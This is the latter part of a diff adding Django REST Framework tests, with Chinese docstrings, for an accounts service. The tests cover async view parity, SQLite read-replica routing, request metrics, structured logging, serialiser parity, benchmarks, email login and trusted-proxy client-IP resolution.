+        self.auth = f'Bearer {self.refresh.access_token}'
+        self.client.credentials(HTTP_AUTHORIZATION=self.auth)
+        self.factory = AsyncRequestFactory()
+
+    def _call(self, view, method, url, data=None, token=None):
+        headers = {'Authorization': token} if token else {}
+        if method == 'get':
+            request = self.factory.get(url, data, headers=headers)
+        else:
+            request = self.factory.post(url, data or {}, content_type='application/json', headers=headers)
+        return async_to_sync(view)(request)
+
+    def assertSameResponse(self, sync_response, async_response):
+        self.assertEqual(async_response.status_code, sync_response.status_code)
+        self.assertEqual(async_response.content, sync_response.content)
+
+    def test_read_views_match_sync_views(self):
+        """测试用户信息、仪表板和两种分页模式的登录记录与同步视图一致"""
+        cases = [
+            (async_user_info_view, reverse('accounts:user-info'), None),
+            (async_dashboard_stats_view, reverse('accounts:dashboard-stats'), None),
+            (async_login_record_list_view, reverse('accounts:login-records'), {'page': 2}),
+            (async_login_record_list_view, reverse('accounts:login-records'), {'paginate': 'cursor'}),
+            (async_login_record_list_view, reverse('accounts:login-records'), {'page': 9}),
+        ]
+        for view, url, params in cases:
+            with self.subTest(url=url, params=params):
+                expected = self.client.get(url, params)
+                response = self._call(view, 'get', url, params, token=self.auth)
+                self.assertSameResponse(expected, response)
+
+    def test_user_without_profile(self):
+        """测试没有用户资料时 profile 为 null"""
+        UserProfile.objects.filter(user=self.user).delete()
+        url = reverse('accounts:user-info')
+        response = self._call(async_user_info_view, 'get', url, token=self.auth)
+        self.assertSameResponse(self.client.get(url), response)
+        self.assertIsNone(json.loads(response.content)['profile'])
+
+    def test_authentication_errors(self):
+        """测试未认证和无效 token 与同步视图一样返回 401"""
+        url = reverse('accounts:user-info')
+        self.client.credentials()
+        for token in (None, 'Bearer invalid'):
+            with self.subTest(token=token):
+                expected = self.client.get(url, **({'HTTP_AUTHORIZATION': token} if token else {}))
+                response = self._call(async_user_info_view, 'get', url, token=token)
+                self.assertSameResponse(expected, response)
+                self.assertEqual(response['WWW-Authenticate'], expected['WWW-Authenticate'])
+
+    def test_method_not_allowed(self):
+        """测试不支持的方法返回 405"""
+        url = reverse('accounts:dashboard-stats')
+        response = self._call(async_dashboard_stats_view, 'post', url, token=self.auth)
+        self.assertSameResponse(self.client.post(url), response)
+        self.assertEqual(response['Allow'], 'GET')
+
+    def test_refresh_rotates_and_blacklists(self):
+        """测试刷新后旧 refresh token 被拉黑"""
+        url = reverse('accounts:token-refresh')
+        response = self._call(async_refresh_token_view, 'post', url, {'refresh': str(self.refresh)})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(set(json.loads(response.content)), {'access', 'refresh'})
+
+        # 同一个 token 再次使用：异步和同步视图都拒绝
+        reused = self._call(async_refresh_token_view, 'post', url, {'refresh': str(self.refresh)})
+        self.assertSameResponse(self.client.post(url, {'refresh': str(self.refresh)}), reused)
+        self.assertEqual(reused.status_code, status.HTTP_401_UNAUTHORIZED)
+
+        for data in ({}, {'refresh': 'garbage'}):
+            with self.subTest(data=data):
+                self.assertSameResponse(
+                    self.client.post(url, data, format='json'),
+                    self._call(async_refresh_token_view, 'post', url, data),
+                )
+
+    def test_logout_blacklists_refresh_token(self):
+        """测试注销后 refresh token 失效"""
+        url = reverse('accounts:user-logout')
+        response = self._call(
+            async_logout_view, 'post', url, {'refresh': str(self.refresh)}, token=self.auth
+        )
+        self.assertSameResponse(self.client.post(url, format='json'), response)
+        self.assertTrue(is_blacklisted(self.refresh))
+
+    @override_settings(ACCOUNTS_RESPONSE_CACHE={'ENABLED': True})
+    def test_served_from_shared_response_cache(self):
+        """测试异步视图与同步视图共用响应缓存"""
+        get_response_cache().clear()
+        url = reverse('accounts:dashboard-stats')
+        expected = self.client.get(url)
+        with self.assertNumQueries(0):
+            response = self._call(async_dashboard_stats_view, 'get', url, token=self.auth)
+        self.assertSameResponse(expected, response)
+
+
+@override_settings(
+    DATABASE_PRIMARY='test_primary', DATABASE_REPLICAS=['test_replica'],
+    ACCOUNTS_RESPONSE_CACHE={'ENABLED': False},
+)
+class ReadReplicaTest(TransactionTestCase):
+    """SQLite 调优和读写分离测试：主库和副本是两个独立的 SQLite 文件"""
+
+    aliases = ('test_primary', 'test_replica')
+
+    def setUp(self):
+        """测试准备：用测试库的表结构创建主库和副本文件，并注册为两个连接"""
+        self.tmpdir = tempfile.mkdtemp()
+        self.paths = {alias: os.path.join(self.tmpdir, f'{alias}.sqlite3') for alias in self.aliases}
+        connection.ensure_connection()
+        for alias, path in self.paths.items():
+            target = sqlite3.connect(path)
+            connection.connection.backup(target)
+            target.close()
+            connections.settings[alias] = {**connections.settings['default'], 'NAME': path}
+
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        UserProfile.objects.filter(user=self.user).update(bio='复制前')
+        LoginRecord.objects.bulk_create([
+            LoginRecord(user=self.user, ip_address='127.0.0.1') for _ in range(3)
+        ])
+        self.replicate()
+        self.client = APIClient()
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {RefreshToken.for_user(self.user).access_token}')
+
+    def tearDown(self):
+        get_user_cache().invalidate(self.user.pk)
+        for alias in self.aliases:
+            connections[alias].close()
+            del connections[alias]
+            del connections.settings[alias]
+        shutil.rmtree(self.tmpdir, ignore_errors=True)
+
+    def replicate(self):
+        """模拟复制：把主库文件完整拷贝到副本"""
+        connections['test_replica'].close()
+        source = sqlite3.connect(self.paths['test_primary'])
+        target = sqlite3.connect(self.paths['test_replica'])
+        source.backup(target)
+        source.close()
+        target.close()
+
+    def test_pragmas_applied_on_connect(self):
+        """测试新连接开启 WAL、synchronous=NORMAL、busy_timeout 和 mmap"""
+        with connections['test_primary'].cursor() as cursor:
+            values = {}
+            for name in ('journal_mode', 'synchronous', 'busy_timeout', 'mmap_size'):
+                cursor.execute(f'PRAGMA {name}')
+                values[name] = cursor.fetchone()[0]
+        self.assertEqual(values['journal_mode'], 'wal')
+        self.assertEqual(values['synchronous'], 1)
+        self.assertEqual(values['busy_timeout'], 5000)
+        self.assertEqual(values['mmap_size'], 64 * 1024 * 1024)
+
+    def test_atomic_begins_immediate_transaction(self):
+        """测试 transaction_mode=IMMEDIATE：atomic() 一开始就持有写锁，其他连接无法写入"""
+        connection = connections['test_primary']
+        self.assertEqual(connection.transaction_mode, 'IMMEDIATE')
+        with transaction.atomic(using='test_primary'):
+            User.objects.using('test_primary').filter(pk=self.user.pk).exists()
+            other = sqlite3.connect(self.paths['test_primary'], timeout=0)
+            try:
+                with self.assertRaises(sqlite3.OperationalError):
+                    other.execute('BEGIN IMMEDIATE')
+            finally:
+                other.close()
+
+    def test_read_only_views_use_replica(self):
+        """测试只读接口读副本（副本尚未同步主库的新数据）"""
+        UserProfile.objects.filter(user=self.user).update(bio='复制后')
+        LoginRecord.objects.create(user=self.user, ip_address='127.0.0.1')
+
+        response = self.client.get(reverse('accounts:user-info'))
+        self.assertEqual(response.data['profile']['bio'], '复制前')
+        response = self.client.get(reverse('accounts:login-records'))
+        self.assertEqual(response.data['count'], 3)
+        response = self.client.get(reverse('accounts:dashboard-stats'))
+        self.assertEqual(response.data['profile']['bio'], '复制前')
+
+        self.replicate()
+        response = self.client.get(reverse('accounts:user-info'))
+        self.assertEqual(response.data['profile']['bio'], '复制后')
+
+    def test_writes_go_to_primary(self):
+        """测试资料更新写入主库，副本和 default 库不受影响"""
+        response = self.client.patch(reverse('accounts:user-profile'), {'bio': '新的简介'})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(response.data['data']['bio'], '新的简介')
+        self.assertEqual(UserProfile.objects.using('test_primary').get(user=self.user).bio, '新的简介')
+        self.assertEqual(UserProfile.objects.using('test_replica').get(user=self.user).bio, '复制前')
+        self.assertEqual(UserProfile.objects.using('default').count(), 0)
+
+    @override_settings(ACCOUNTS_RESPONSE_CACHE={'ENABLED': True})
+    def test_cache_filled_from_primary(self):
+        """测试副本落后时，写入后的缓存填充读主库，缓存中不会留下旧数据"""
+        cache = get_response_cache()
+        cache.clear()
+        response = self.client.patch(reverse('accounts:user-profile'), {'bio': '新的简介'})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(UserProfile.objects.using('test_replica').get(user=self.user).bio, '复制前')
+
+        for name, url in (('me', 'accounts:user-info'), ('dashboard', 'accounts:dashboard-stats')):
+            response = self.client.get(reverse(url))
+            self.assertEqual(response.data['profile']['bio'], '新的简介')
+            cached = json.loads(cache._get(cache.make_key(self.user.pk, name)))
+            self.assertEqual(cached['profile']['bio'], '新的简介')
+            self.assertEqual(self.client.get(reverse(url)).data['profile']['bio'], '新的简介')
+        cache.clear()
+
+    def test_router_rules(self):
+        """测试路由规则：上下文之外、事务之中和其他应用都读主库，副本不迁移"""
+        self.assertEqual(router.db_for_read(LoginRecord), 'test_primary')
+        with replica_reads():
+            self.assertEqual(router.db_for_read(LoginRecord), 'test_replica')
+            self.assertEqual(router.db_for_read(User), 'test_replica')
+            self.assertEqual(router.db_for_write(LoginRecord), 'test_primary')
+            with transaction.atomic(using='test_primary'):
+                self.assertEqual(router.db_for_read(LoginRecord), 'test_primary')
+            from django.contrib.sessions.models import Session
+            self.assertEqual(router.db_for_read(Session), 'test_primary')
+        self.assertFalse(router.allow_migrate('test_replica', 'accounts'))
+        self.assertTrue(router.allow_migrate('test_primary', 'accounts'))
+
+
+@override_settings(
+    LOGIN_RECORD_ASYNC=False,
+    METRICS={'SLOW_REQUEST_MS': 10 ** 6, 'SLOW_QUERY_COUNT': 10 ** 6},
+)
+class RequestMetricsTest(APITestCase):
+    """请求指标中间件和 /metrics 测试"""
+
+    def setUp(self):
+        """测试准备"""
+        get_response_cache().clear()
+        reset_exporter(setting='METRICS')
+        self.user = User.objects.create_user(username='testuser', password='testpass123')
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {RefreshToken.for_user(self.user).access_token}')
+
+    def scrape(self, **extra):
+        response = self.client.get('/metrics', **extra)
+        return response, response.content.decode()
+
+    def test_per_view_counts_sql_and_cache(self):
+        """测试按视图统计请求数、SQL 条数和缓存命中"""
+        url = reverse('accounts:user-info')
+        self.client.get(url)
+        self.client.get(url)
+        response, text = self.scrape()
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertTrue(response['Content-Type'].startswith('text/plain; version=0.0.4'))
+        self.assertIn('accounts_requests_total{view="accounts:user-info",method="GET",status="200"} 2', text)
+        self.assertIn('accounts_request_sql_queries_count{view="accounts:user-info"} 2', text)
+        self.assertIn('accounts_cache_requests_total{view="accounts:user-info",cache="response",result="hit"} 1', text)
+        self.assertIn('accounts_cache_requests_total{view="accounts:user-info",cache="response",result="miss"} 1', text)
+        # 第二次请求命中响应缓存和用户缓存，不执行 SQL
+        self.assertIn('accounts_request_sql_queries_bucket{view="accounts:user-info",le="0.0"} 1', text)
+        self.assertIn('accounts_request_serializer_duration_seconds_count{view="accounts:user-info"} 1', text)
+
+    def test_password_hash_time(self):
+        """测试登录请求记录密码哈希耗时"""
+        self.client.post(reverse('accounts:user-login'), {'username': 'testuser', 'password': 'testpass123'})
+        _, text = self.scrape()
+        self.assertIn('accounts_request_password_hash_duration_seconds_count{view="accounts:user-login"} 1', text)
+        self.assertNotIn('accounts_request_password_hash_duration_seconds_count{view="accounts:user-info"}', text)
+
+    def test_slow_request_logged_with_queries(self):
+        """测试超过阈值的请求记录警告日志，附带最慢的 SQL"""
+        with self.settings(METRICS={'SLOW_REQUEST_MS': 0}), self.assertLogs('accounts.metrics', 'WARNING') as logs:
+            self.client.get(reverse('accounts:login-records'))
+        self.assertIn('慢请求', logs.output[0])
+        self.assertIn('accounts:login-records', logs.output[0])
+        self.assertIn('SELECT', logs.output[0])
+
+    def test_async_view_queries_recorded(self):
+        """测试异步视图在 sync_to_async 线程中执行的 SQL 也被记录"""
+        get_user_cache().invalidate(self.user.pk)
+        middleware = RequestMetricsMiddleware(async_user_info_view)
+        request = AsyncRequestFactory().get('/api/auth/me/', headers={
+            'Authorization': f'Bearer {RefreshToken.for_user(self.user).access_token}'
+        })
+        response = async_to_sync(middleware)(request)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        histograms = {item[0]: item for item in get_exporter().registry.snapshot()['histograms']}
+        self.assertGreaterEqual(histograms['accounts_request_sql_queries'][3], 2)
+
+    def test_multiprocess_aggregation(self):
+        """测试汇总共享目录中其他进程写入的指标"""
+        with tempfile.TemporaryDirectory() as directory:
+            with self.settings(METRICS={'MULTIPROC_DIR': directory}):
+                other = MetricsRegistry()
+                other.record_request('accounts:user-info', 'GET', 200, 0.01, RequestMetrics())
+                with open(os.path.join(directory, '999999.json'), 'w') as f:
+                    json.dump(other.snapshot(), f)
+
+                self.client.get(reverse('accounts:user-info'))
+                get_exporter().flush()
+                self.assertTrue(os.path.exists(get_exporter().path))
+                _, text = self.scrape()
+        self.assertIn('accounts_requests_total{view="accounts:user-info",method="GET",status="200"} 2', text)
+        self.assertIn('accounts_request_duration_seconds_count{view="accounts:user-info"} 2', text)
+
+    def test_unknown_methods_grouped(self):
+        """测试非标准的请求方法统一记为 other"""
+        for method in ('FOO', 'BAR', 'PROPFIND'):
+            self.client.generic(method, reverse('accounts:user-info'))
+        methods = {
+            labels[1] for name, labels, _ in get_exporter().registry.snapshot()['counters']
+            if name == 'accounts_requests_total'
+        }
+        self.assertEqual(methods, {'other'})
+
+    def test_restarted_worker_files_folded(self):
+        """测试 PID 被复用时旧文件不被覆盖，已退出进程的文件合并进 dead.json"""
+        with tempfile.TemporaryDirectory() as directory:
+            with self.settings(METRICS={'MULTIPROC_DIR': directory}):
+                live = MetricsRegistry()
+                live.inc('accounts_requests_total', ('accounts:user-info', 'GET', '200'), 5)
+                with open(os.path.join(directory, f'{os.getppid()}-1.json'), 'w') as f:
+                    json.dump(live.snapshot(), f)
+                gone = MetricsRegistry()
+                gone.inc('accounts_requests_total', ('accounts:user-info', 'GET', '200'), 7)
+                with open(os.path.join(directory, '999999-1.json'), 'w') as f:
+                    json.dump(gone.snapshot(), f)
+
+                # 同一个 PID 先后启动两个导出器，模拟 worker 退出后 PID 被复用
+                previous = get_exporter()
+                previous.registry.inc('accounts_requests_total', ('accounts:user-info', 'GET', '200'), 3)
+                previous.flush()
+                reset_exporter(setting='METRICS')
+                current = get_exporter()
+                self.assertNotEqual(current.path, previous.path)
+                current.registry.inc('accounts_requests_total', ('accounts:user-info', 'GET', '200'), 1)
+                current.flush()
+
+                self.assertEqual(
+                    sorted(name for name in os.listdir(directory) if name.endswith('.json')),
+                    sorted(['dead.json', f'{os.getppid()}-1.json', os.path.basename(current.path)]),
+                )
+                counters = {
+                    (name, tuple(labels)): value for name, labels, value in current.collect()['counters']
+                }
+        self.assertEqual(counters[('accounts_requests_total', ('accounts:user-info', 'GET', '200'))], 16)
+
+    def test_scrape_restricted_to_allowed_networks(self):
+        """测试 /metrics 只允许内网地址访问"""
+        response, _ = self.scrape(REMOTE_ADDR='203.0.113.9')
+        self.assertEqual(response.status_code, status.HTTP_403_FORBIDDEN)
+
+
+@override_settings(LOGIN_RECORD_ASYNC=False)
+class StructuredLoggingTest(TestCase):
+    """日志队列、抽样和 JSON 格式测试"""
+
+    def setUp(self):
+        """测试准备：独立的日志器，记录写入列表"""
+        reset_exporter(setting='METRICS')
+        self.logger = logging.getLogger('accounts.tests.structured')
+        self.logger.propagate = False
+        self.addCleanup(setattr, self.logger, 'propagate', True)
+        self.addCleanup(setattr, self.logger, 'handlers', [])
+        self.records = []
+        self.target = logging.Handler()
+        self.target.emit = self.records.append
+
+    def dropped(self, reason):
+        for name, labels, value in get_exporter().registry.snapshot()['counters']:
+            if name == 'accounts_log_records_dropped_total' and labels == [self.logger.name, reason]:
+                return value
+        return 0
+
+    def test_json_formatter(self):
+        """测试输出一行 JSON，extra 中的可调用对象在格式化时求值"""
+        record = self.logger.makeRecord(
+            self.logger.name, logging.INFO, __file__, 1, '用户登录成功: %s', ('alice',), None,
+            extra={'user_id': 7, 'ip': lambda: '10.0.0.1'},
+        )
+        data = json.loads(JSONFormatter().format(record))
+        self.assertEqual(data['message'], '用户登录成功: alice')
+        self.assertEqual(data['level'], 'INFO')
+        self.assertEqual(data['logger'], self.logger.name)
+        self.assertEqual(data['user_id'], 7)
+        self.assertEqual(data['ip'], '10.0.0.1')
+        self.assertNotIn('args', data)
+
+        try:
+            raise ValueError('坏了')
+        except ValueError:
+            record = self.logger.makeRecord(
+                self.logger.name, logging.ERROR, __file__, 1, '失败', (), sys.exc_info(),
+            )
+        self.assertIn('ValueError: 坏了', json.loads(JSONFormatter().format(record))['exc_info'])
+
+    def test_queue_routes_records_in_background_thread(self):
+        """测试记录经队列由后台线程交给原处理器，消息到写出时才格式化"""
+        self.target.setLevel(logging.INFO)
+        log_queue = queue.Queue(100)
+        handler = BoundedQueueHandler(log_queue, [self.target])
+        self.logger.handlers = [handler]
+        listener = RoutingQueueListener(log_queue)
+        listener.start()
+        self.logger.info('用户登录成功: %s', 'alice')
+        self.logger.debug('级别低于处理器的记录不写出')
+        listener.stop()
+
+        self.assertEqual([record.getMessage() for record in self.records], ['用户登录成功: alice'])
+        self.assertEqual(self.records[0].args, ('alice',))
+        self.assertIsNone(self.records[0].__dict__.get('message'))
+
+    def test_full_queue_drops_without_blocking(self):
+        """测试队列满时丢弃记录并计数，不阻塞调用方"""
+        handler = BoundedQueueHandler(queue.Queue(2), [self.target])
+        self.logger.handlers = [handler]
+        start = time.perf_counter()
+        for i in range(5):
+            self.logger.warning('第 %s 条', i)
+        self.assertLess(time.perf_counter() - start, 1)
+        self.assertEqual(handler.queue.qsize(), 2)
+        self.assertEqual(self.dropped('queue_full'), 3)
+
+    def test_sampling(self):
+        """测试按消息模板每 N 条保留 1 条，规则对子日志器生效，WARNING 不抽样"""
+        sampling = SamplingFilter({'accounts.tests': {'用户登录成功: %s': 3}})
+        self.target.addFilter(sampling)
+        self.logger.handlers = [self.target]
+        for i in range(6):
+            self.logger.info('用户登录成功: %s', f'user{i}')
+        self.logger.info('其他消息')
+        self.logger.warning('用户登录成功: %s', 'warn')
+
+        messages = [record.getMessage() for record in self.records]
+        self.assertEqual(messages, ['用户登录成功: user0', '用户登录成功: user3', '其他消息', '用户登录成功: warn'])
+        self.assertEqual(self.records[0].sample_rate, 3)
+        self.assertEqual(self.dropped('sampled'), 4)
+        text = get_exporter().render()
+        self.assertIn(
+            f'accounts_log_records_dropped_total{{logger="{self.logger.name}",reason="sampled"}} 4', text
+        )
+
+
+class FastRepresentationParityTest(APITestCase):
+    """快速序列化与 DRF 序列化器的输出逐字节一致"""
+
+    def setUp(self):
+        """测试准备：字段齐全的用户、只有默认资料的用户和各种登录记录"""
+        get_response_cache().clear()
+        self.user = User.objects.create_user(
+            username='testuser', email='test@example.com', password='testpass123',
+            first_name='三', last_name='张',
+        )
+        self.user.last_login = timezone.now()
+        self.user.save(update_fields=['last_login'])
+        UserProfile.objects.filter(user=self.user).update(
+            avatar='avatars/1/a.png', avatar_status=UserProfile.AVATAR_READY,
+            avatar_variants={'small': {'webp': 'avatars/1/a_small.webp', 'jpeg': 'avatars/1/a_small.jpg'}},
+            phone='13800000000', birth_date='1990-12-31', bio='简介 "引号"\n换行', location='北京',
+            website='https://example.com', gender='M', is_verified=True,
+        )
+        self.bare = User.objects.create_user(username='bare', password='testpass123')
+        agent = intern_user_agent('Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0')
+        LoginRecord.objects.bulk_create([
+            LoginRecord(user=self.user, ip_address='127.0.0.1', user_agent=agent),
+            LoginRecord(user=self.user, ip_address='::1', is_successful=False, failure_reason='密码错误'),
+            LoginRecord(user=None, username='ghost', ip_address='10.0.0.1', user_agent=agent,
+                        is_successful=False, failure_reason='登录信息验证失败'),
+            LoginRecord(user=self.bare, ip_address='10.0.0.2', login_method='sms'),
+        ])
+        self.request = APIRequestFactory().get('/api/auth/me/')
+
+    def fresh(self, user):
+        return User.objects.get(pk=user.pk)
+
+    def assertSameJSON(self, fast, expected):
+        self.assertEqual(JSONRenderer().render(fast), JSONRenderer().render(expected))
+
+    def assertAllParity(self):
+        for user in (self.user, self.bare):
+            for request in (None, self.request):
+                context = {'request': request} if request is not None else {}
+                self.assertSameJSON(
+                    user_representation(self.fresh(user), request),
+                    UserSimpleSerializer(self.fresh(user), context=context).data,
+                )
+                profile = self.fresh(user).profile
+                self.assertSameJSON(
+                    profile_representation(profile, request),
+                    UserProfileSerializer(profile, context=context).data,
+                )
+        records = LoginRecord.objects.order_by('id')
+        self.assertSameJSON(
+            login_record_rows(login_record_values(records)),
+            LoginRecordSerializer(records.select_related('user', 'user_agent'), many=True).data,
+        )
+
+    def test_parity(self):
+        """测试用户、资料和登录记录（含未关联用户、无 UA 的记录）"""
+        self.assertAllParity()
+        self.assertIsNone(user_representation(self.fresh(self.bare))['last_login'])
+        rows = login_record_rows(login_record_values(LoginRecord.objects.filter(user=None)))
+        self.assertNotIn('username', rows[0])
+
+    def test_parity_with_iso_datetimes_and_other_timezone(self):
+        """测试日期格式和当前时区变化时仍一致"""
+        rest_framework = {**settings.REST_FRAMEWORK, 'DATETIME_FORMAT': 'iso-8601'}
+        with override_settings(REST_FRAMEWORK=rest_framework), timezone.override('America/New_York'):
+            self.assertAllParity()
+        with override_settings(TIME_ZONE='UTC', USE_TZ=True):
+            self.assertAllParity()
+
+    def test_user_without_profile(self):
+        """测试没有资料的用户 profile 为 None"""
+        UserProfile.objects.filter(user=self.bare).delete()
+        self.assertSameJSON(
+            user_representation(self.fresh(self.bare)), UserSimpleSerializer(self.fresh(self.bare)).data
+        )
+        self.assertIsNone(user_representation(self.fresh(self.bare))['profile'])
+
+    def test_endpoints_match_serializers(self):
+        """测试登录、/me/、/profile/ 和 /login-records/ 的响应与序列化器输出一致"""
+        response = self.client.post(
+            reverse('accounts:user-login'), {'username': 'testuser', 'password': 'testpass123'}
+        )
+        self.assertSameJSON(response.data['user'], UserSimpleSerializer(self.fresh(self.user)).data)
+
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {response.data["tokens"]["access"]}')
+        request = APIRequestFactory().get('/')
+        response = self.client.get(reverse('accounts:user-info'))
+        self.assertSameJSON(
+            response.data, UserSimpleSerializer(self.fresh(self.user), context={'request': request}).data
+        )
+        response = self.client.get(reverse('accounts:user-profile'))
+        self.assertSameJSON(
+            response.data, UserProfileSerializer(self.fresh(self.user).profile, context={'request': request}).data
+        )
+
+        LoginRecord.objects.bulk_create([
+            LoginRecord(user=self.user, ip_address='127.0.0.1', login_time=timezone.now() - timedelta(hours=i))
+            for i in range(1, 4)
+        ])
+        records = LoginRecord.objects.for_user(self.user).select_related('user', 'user_agent').recent_first()
+        expected = LoginRecordSerializer(records, many=True).data
+        response = self.client.get(reverse('accounts:login-records'))
+        self.assertSameJSON(response.data['results'], expected)
+        with mock.patch.object(LoginRecordPagination, 'page_size', 2):
+            response = self.client.get(reverse('accounts:login-records'), {'paginate': 'cursor'})
+            self.assertSameJSON(response.data['results'], expected[:2])
+            response = self.client.get(response.data['next'])
+        self.assertSameJSON(response.data['results'], expected[2:4])
+
+
+class BenchmarkApiTest(TestCase):
+    """认证接口负载基准的数据准备和基线比较"""
+
+    def test_seed_data(self):
+        """测试预置用户和登录记录，并能用基准密码登录"""
+        from accounts.management.commands.benchmark_api import BENCH_PASSWORD, seed_data
+
+        users = seed_data(3, 20, seed=1)
+        self.assertEqual(len(users), 3)
+        self.assertEqual(UserProfile.objects.filter(user__in=users).count(), 3)
+        self.assertEqual(LoginRecord.objects.filter(user__in=users).count(), 20)
+        self.assertTrue(users[0].check_password(BENCH_PASSWORD))
+
+    def test_compare_with_baseline(self):
+        """测试 p95 变慢、吞吐量下降、SQL 增加和出错请求被判定为回退，阈值内的波动不算"""
+        from accounts.management.commands.benchmark_api import compare
+
+        base = {'driver': 'wsgi', 'scenario': 'me', 'p95_ms': 10.0,
+                'requests_per_second': 100.0, 'queries_per_request': 1.0}
+        baseline = {'results': [base]}
+        self.assertEqual(compare([dict(base, p95_ms=11.0, requests_per_second=90.0)], baseline, 0.2), [])
+
+        regressions = compare(
+            [dict(base, p95_ms=13.0, requests_per_second=70.0, queries_per_request=2.0)], baseline, 0.2
+        )
+        self.assertEqual(len(regressions), 3)
+        self.assertTrue(all(item.startswith('wsgi/me') for item in regressions))
+        self.assertEqual(compare([dict(base, scenario='dashboard', p95_ms=99.0)], baseline, 0.2), [])
+
+        regressions = compare([dict(base, p95_ms=2.0, requests_per_second=500.0, errors=3)], baseline, 0.2)
+        self.assertEqual(regressions, ['wsgi/me: 3 个请求返回了非预期的状态码'])
+        self.assertEqual(len(compare([dict(base, scenario='dashboard', errors=1)], baseline, 0.2)), 1)
+
+
+class UsernameOrEmailBackendTest(APITestCase):
+    """用户名/邮箱认证后端测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.login_url = reverse('accounts:user-login')
+        self.user = User.objects.create_user(
+            username='testuser',
+            email='Test@Example.com',
+            password='testpass123'
+        )
+
+    def test_email_login_is_case_insensitive(self):
+        """测试邮箱登录忽略大小写"""
+        response = self.client.post(self.login_url, {'username': 'test@EXAMPLE.com', 'password': 'testpass123'})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+
+    def test_wrong_password_by_email_hashes_once(self):
+        """测试邮箱+错误密码只查询一次用户、只校验一次密码"""
+        verify = TunedPBKDF2PasswordHasher.verify
+        with mock.patch.object(TunedPBKDF2PasswordHasher, 'verify', autospec=True, side_effect=verify) as spy, \
+                CaptureQueriesContext(connection) as ctx:
+            response = self.client.post(self.login_url, {'username': 'test@example.com', 'password': 'wrong'})
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        self.assertEqual(spy.call_count, 1)
+        self.assertEqual(sum(1 for q in ctx if 'FROM "auth_user"' in q['sql']), 1)
+
+    def test_identifier_lookup_uses_indexes(self):
+        """测试标识查询走用户名唯一索引和 LOWER(email) 函数索引"""
+        from .management.commands.explain_login_queries import explain, find_full_scans
+
+        plan = explain(identifier_queryset('test@example.com'))
+        self.assertEqual(find_full_scans(plan, 'auth_user', connection.vendor), [])
+
+
+THROTTLE_TEST_SETTINGS = {
+    'BACKEND': 'locmem',
+    'GLOBAL_RATE': (100, 60),
+    'IP_RATE': (10, 300),
+    'USERNAME_RATE': (2, 300),
+    'LOCKOUT_BASE': 60,
+    'LOCKOUT_MULTIPLIER': 2,
+    'LOCKOUT_MAX': 3600,
+}
+
+
+class ClientIPResolverTest(TestCase):
+    """客户端 IP 解析测试"""
+
+    def setUp(self):
+        """测试准备"""
+        self.resolver = ClientIPResolver(['10.0.0.0/8', '192.168.1.0/24', '2001:db8::/32'])
+
+    def test_untrusted_remote_ignores_forwarded(self):
+        """测试直连地址不可信时忽略伪造的 X-Forwarded-For"""
+        meta = {'REMOTE_ADDR': '203.0.113.9', 'HTTP_X_FORWARDED_FOR': '1.1.1.1'}
+        self.assertEqual(self.resolver.resolve(meta), '203.0.113.9')
+
+    def test_walks_chain_from_right(self):
+        """测试从右往左跳过可信代理，左边伪造的部分不被采用"""
+        meta = {'REMOTE_ADDR': '10.1.2.3', 'HTTP_X_FORWARDED_FOR': '6.6.6.6, 198.51.100.4 ,192.168.1.7'}
+        self.assertEqual(self.resolver.resolve(meta), '198.51.100.4')
+
+    def test_all_trusted_returns_leftmost(self):
+        """测试链上全是可信代理时返回最左边的地址"""
+        meta = {'REMOTE_ADDR': '10.0.0.1', 'HTTP_X_FORWARDED_FOR': '192.168.1.2, 10.0.0.2'}
+        self.assertEqual(self.resolver.resolve(meta), '192.168.1.2')
+
+    def test_normalization(self):
+        """测试去端口、IPv4 映射地址和 IPv6 的规范化"""
+        self.assertEqual(parse_ip(' 1.2.3.4:8080 ')[2], '1.2.3.4')
+        self.assertEqual(parse_ip('[2001:DB8::1]:443')[2], '2001:db8::1')
+        self.assertEqual(parse_ip('::ffff:1.2.3.4')[2], '1.2.3.4')
+        self.assertIsNone(parse_ip('unknown'))
+        meta = {'REMOTE_ADDR': '::ffff:10.0.0.1', 'HTTP_X_FORWARDED_FOR': 'garbage, 198.51.100.4'}
+        self.assertEqual(self.resolver.resolve(meta), '198.51.100.4')
+        meta = {'REMOTE_ADDR': '10.0.0.1', 'HTTP_X_FORWARDED_FOR': '198.51.100.4, garbage'}
+        self.assertEqual(self.resolver.resolve(meta), '10.0.0.1')
+
+    @override_settings(TRUSTED_PROXIES=['127.0.0.0/8'], LOGIN_RECORD_ASYNC=False)
+    def test_login_record_uses_resolved_ip(self):
+        """测试登录记录保存解析后的地址"""
+        User.objects.create_user(username='testuser', password='testpass123')
+        self.client.post(
+            reverse('accounts:user-login'),
+            {'username': 'testuser', 'password': 'testpass123'},
+            HTTP_X_FORWARDED_FOR='9.9.9.9, 198.51.100.4 ',
+        )
+        self.assertEqual(LoginRecord.objects.get().ip_address, '198.51.100.4')
+
+    @override_settings(
+        LOGIN_RECORD_ASYNC=False,
+        LOGIN_THROTTLE={**THROTTLE_TEST_SETTINGS, 'IP_RATE': (1, 300), 'USERNAME_RATE': (100, 300)},
+    )
+    def test_missing_remote_addr(self):
+        """测试 REMOTE_ADDR 为空时登录记录写入 0.0.0.0，限流不按 IP 计数"""
+        self.assertIsNone(self.resolver.resolve({'REMOTE_ADDR': ''}))
+        User.objects.create_user(username='testuser', password='testpass123')
+        url = reverse('accounts:user-login')
+        for username in ('testuser', 'alice', 'bob'):
+            response = self.client.post(url, {'username': username, 'password': 'wrong'}, REMOTE_ADDR='')
+            self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+        response = self.client.post(url, {'username': 'testuser', 'password': 'testpass123'}, REMOTE_ADDR='')
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+
